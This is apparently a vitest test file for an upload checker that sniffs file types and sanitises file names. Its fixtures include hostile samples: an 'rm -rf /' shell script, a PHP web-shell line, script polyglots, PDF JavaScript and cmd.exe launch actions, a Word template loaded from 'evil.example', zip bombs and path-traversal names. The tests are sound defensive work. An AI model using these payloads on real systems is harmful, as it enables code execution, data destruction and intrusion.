import crypto from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { sniff } from './files.sniff.ts';
import { contentDisposition, displayName, extensionOf } from './files.storage.ts';
import { bmp, doc, docx, gif, jpeg, pdf, pdfWithObjectStream, png, zip } from './files.testkit.ts';

const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');

describe('upload content checks', () => {
  it('recognises minimal valid files of every accepted type', () => {
    expect(sniff(jpeg())).toEqual({ ok: true, type: 'jpg' });
    expect(sniff(png())).toEqual({ ok: true, type: 'png' });
    expect(sniff(gif())).toEqual({ ok: true, type: 'gif' });
    expect(sniff(bmp())).toEqual({ ok: true, type: 'bmp' });
    expect(sniff(pdf())).toEqual({ ok: true, type: 'pdf' });
    expect(sniff(docx())).toEqual({ ok: true, type: 'docx' });
    expect(sniff(doc())).toEqual({ ok: true, type: 'doc' });
  });

  it('knows nothing of SVG, HTML, scripts, executables or archives', () => {
    for (const b of [
      latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      latin1('<!doctype html><html><body>hi</body></html>'),
      latin1('#!/bin/sh\nrm -rf /\n'),
      Buffer.concat([latin1('MZ\x90\x00'), Buffer.alloc(200)]),
      Buffer.concat([latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]),
      latin1('Rar!\x1a\x07\x00'),
      latin1(''),
    ])
      expect(sniff(b)).toEqual({ ok: false, reason: 'unknown' });
  });

  it('refuses image polyglots: markup anywhere, archives or programs after the image end', () => {
    expect(sniff(Buffer.concat([jpeg(), latin1('<script>alert(1)</script>')]))).toMatchObject({ reason: 'active' });
    expect(sniff(Buffer.concat([png(), latin1('<?php system($_GET[1]); ?>')]))).toMatchObject({ reason: 'active' });
    expect(sniff(Buffer.concat([gif(), zip({ 'a.txt': 'x' })]))).toMatchObject({ reason: 'active' });
    expect(sniff(Buffer.concat([jpeg(), latin1('\0\0MZ'), Buffer.alloc(64)]))).toMatchObject({ reason: 'active' });
    expect(sniff(Buffer.concat([bmp(), latin1('PE\0\0'), Buffer.alloc(16)]))).toMatchObject({ reason: 'active' });
    // Script markup inside the image data (e.g. a comment segment), in any case.
    const withComment = jpeg();
    const text = latin1('<SCRIPT src=x>');
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, text.length + 2]), text]);
    // Without the markup, the same structure is a good JPEG.
    const plain = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 7]), latin1('hello')]);
    expect(sniff(Buffer.concat([withComment.subarray(0, 2), plain, withComment.subarray(2)]))).toEqual({
      ok: true,
      type: 'jpg',
    });
    expect(sniff(Buffer.concat([withComment.subarray(0, 2), comment, withComment.subarray(2)]))).toMatchObject({
      reason: 'active',
    });
    // Harmless padding after the end is fine.
    expect(sniff(Buffer.concat([png(), Buffer.alloc(32)]))).toEqual({ ok: true, type: 'png' });
  });

  it('refuses truncated or malformed images', () => {
    expect(sniff(jpeg().subarray(0, 40))).toMatchObject({ ok: false, reason: 'malformed', type: 'jpg' });
    expect(sniff(png().subarray(0, 30))).toMatchObject({ ok: false, reason: 'malformed', type: 'png' });
    expect(sniff(gif().subarray(0, 20))).toMatchObject({ ok: false, reason: 'malformed', type: 'gif' });
    const b = bmp();
    b.writeUInt32LE(9999, 2);
    expect(sniff(b)).toMatchObject({ ok: false, reason: 'malformed', type: 'bmp' });
  });

  it('walks JPEG entropy data with stuffed bytes and restart markers', () => {
    const j = jpeg();
    const eoi = j.length - 2;
    const data = Buffer.from([0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56]);
    expect(sniff(Buffer.concat([j.subarray(0, eoi), data, j.subarray(eoi)]))).toEqual({ ok: true, type: 'jpg' });
  });

  it('refuses PDF with JavaScript, launch actions or embedded files, also escaped or in object streams', () => {
    expect(sniff(pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'))).toMatchObject({ reason: 'active' });
    expect(sniff(pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'))).toMatchObject({ reason: 'active' });
    expect(sniff(pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'))).toMatchObject({ reason: 'active' });
    expect(sniff(pdf('/Names << /EmbeddedFiles << /Names [(a) << /Type /EmbeddedFile >>] >> >>'))).toMatchObject({
      reason: 'active',
    });
    expect(sniff(pdfWithObjectStream('<< /S /JavaScript /JS (app.alert(1)) >>'))).toMatchObject({ reason: 'active' });
    expect(sniff(pdfWithObjectStream('<< /S /URI /URI (https://example.com) >>'))).toEqual({ ok: true, type: 'pdf' });
    expect(sniff(pdf('', 'PK\x03\x04rest-of-a-zip'))).toMatchObject({ reason: 'active' });
    expect(sniff(latin1('%PDF-1.4\n1 0 obj << >> endobj\n'))).toMatchObject({ reason: 'malformed' });
    // A name that merely starts like an action is not one.
    expect(sniff(pdf('/JSON (x) /JavaScriptish 1'))).toEqual({ ok: true, type: 'pdf' });
  });

  it('refuses Word files that load a template, image or frame from elsewhere (issue 15)', () => {
    const rels = (rel: string) =>
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
    const template = rels(
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
    );
    expect(sniff(docx({ 'word/_rels/settings.xml.rels': template }))).toMatchObject({ reason: 'active' });
    // The same, deflated, attribute order changed and a namespace prefix: still found.
    const sneaky = rels(
      "<pr:Relationship TargetMode='External' Target='\\\\host\\share\\x.png' Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image'/>",
    );
    expect(sniff(docx({ 'word/_rels/document.xml.rels': sneaky }, ['word/_rels/document.xml.rels']))).toMatchObject({
      reason: 'active',
    });
    // A hyperlink opens only when clicked: allowed.
    const link = rels(
      '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com" TargetMode="External"/>',
    );
    expect(sniff(docx({ 'word/_rels/document.xml.rels': link }))).toEqual({ ok: true, type: 'docx' });
  });

  it('refuses Word files that are archive bombs, by declared and by real sizes (issue 15)', () => {
    // 64 MB of zeros deflates to ~64 KB: over 100:1.
    const zeros = Buffer.alloc(64 * 1024 * 1024);
    expect(sniff(docx({ 'word/media/a.bin': zeros }, ['word/media/a.bin']))).toMatchObject({ reason: 'malformed' });
    // Many entries each under the ratio limit but over 100 MB in all.
    const noise = crypto.randomBytes(2 * 1024 * 1024);
    const many: Record<string, Buffer> = {};
    for (let i = 0; i < 51; i++) many[`word/media/n${i}.bin`] = noise;
    expect(sniff(docx(many))).toMatchObject({ reason: 'malformed' });
    // A compressed relationship part that inflates past its cap is refused, never inflated whole.
    const bigRels = `<Relationships>${' '.repeat(8 * 1024 * 1024)}</Relationships>`;
    expect(sniff(docx({ 'word/_rels/document.xml.rels': bigRels }, ['word/_rels/document.xml.rels']))).toMatchObject({
      ok: false,
    });
    // A deflated entry of ordinary size and ratio is fine.
    expect(sniff(docx({}, ['word/document.xml']))).toEqual({ ok: true, type: 'docx' });
  });

  it('refuses Word files with macros or embedded programs, and other zips and OLE files', () => {
    expect(sniff(docx({ 'word/vbaProject.bin': Buffer.alloc(16) }))).toMatchObject({ reason: 'active' });
    expect(sniff(docx({ 'word/embeddings/run.exe': latin1('MZ') }))).toMatchObject({ reason: 'active' });
    expect(sniff(zip({ 'a.txt': 'hello' }))).toMatchObject({ reason: 'malformed', type: 'docx' });
    expect(sniff(Buffer.concat([docx(), latin1('appended')]))).toMatchObject({ reason: 'malformed' });
    expect(sniff(doc(['WordDocument', 'Macros']))).toMatchObject({ reason: 'active' });
    expect(sniff(doc(['Workbook']))).toMatchObject({ reason: 'malformed', type: 'doc' });
    // "Macros" as text inside a stream (not a directory entry) is not a macro storage.
    const d = doc();
    Buffer.from('Macros\0', 'utf16le').copy(d, 1024 + 10);
    expect(sniff(d)).toEqual({ ok: true, type: 'doc' });
  });
});

describe('upload names', () => {
  it('keeps only a display name: no path, no control or direction characters', () => {
    expect(displayName('../../etc/passwd.png')).toBe('passwd.png');
    expect(displayName('C:\\Users\\x\\..\\photo.jpg')).toBe('photo.jpg');
    expect(displayName('photo\u202egnp.exe')).toBe('photognp.exe');
    expect(displayName('a\u0000b\r\nc.pdf')).toBe('abc.pdf');
    expect(displayName('...hidden.png')).toBe('hidden.png');
    expect(displayName('x'.repeat(300) + '.docx')).toHaveLength(200);
    expect(displayName('x'.repeat(300) + '.docx').endsWith('.docx')).toBe(true);
    expect(extensionOf('Report.PDF')).toBe('pdf');
    expect(extensionOf('noext')).toBe('');
  });

  it('writes a safe content-disposition with an RFC 5987 name', () => {
    expect(contentDisposition('inline', 'site "A".png')).toBe(
      `inline; filename="site _A_.png"; filename*=UTF-8''site%20%22A%22.png`,
    );
    expect(contentDisposition('attachment', '报告.pdf')).toBe(
      `attachment; filename="__.pdf"; filename*=UTF-8''%E6%8A%A5%E5%91%8A.pdf`,
    );
  });
});
